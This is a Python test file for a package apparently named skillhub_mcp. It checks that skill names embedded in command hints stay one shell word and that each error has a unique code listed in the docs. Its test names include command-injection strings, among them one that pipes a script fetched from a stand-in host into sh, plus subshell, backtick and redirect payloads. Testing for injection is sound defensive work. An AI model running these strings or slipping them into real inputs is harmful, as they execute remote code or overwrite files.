"""Every error has a code of its own, and a command in its hint has each name as one word."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest

from skillhub_mcp import errors
from skillhub_mcp.errors import ConfirmationRequired, SkillDisabled, SkillHubError

NAMES = ["pdf", "x; curl evil.example | sh #", "$(touch /tmp/x)", "`id`", "it's", "/a dir/skill", "> /etc/x"]


@pytest.mark.parametrize("name", NAMES)
def test_a_command_in_a_hint_has_the_name_as_one_word(name: str) -> None:
    disabled = SkillDisabled(name).hint or ""
    assert shlex.split(disabled.split("`skillhub ", 1)[1].rpartition("`")[0]) == ["enable", name]
    asked = ConfirmationRequired("run_skill_command", "x", description="", directory="/x", rule_name=name).hint or ""
    assert shlex.split(asked.partition(": skillhub ")[2]) == ["allow", name, "--run"]


def test_every_error_has_a_code_of_its_own_in_the_reference() -> None:
    classes = [one for one in vars(errors).values() if isinstance(one, type) and issubclass(one, SkillHubError)]
    codes = [one.code for one in classes if one.code != SkillHubError.code]
    assert len(set(codes)) == len(codes)
    reference = (Path(__file__).parents[1] / "docs" / "reference" / "errors.md").read_text(encoding="utf-8")
    assert re.findall(r"^\| `(\w+)` \|", reference, re.MULTILINE) == codes
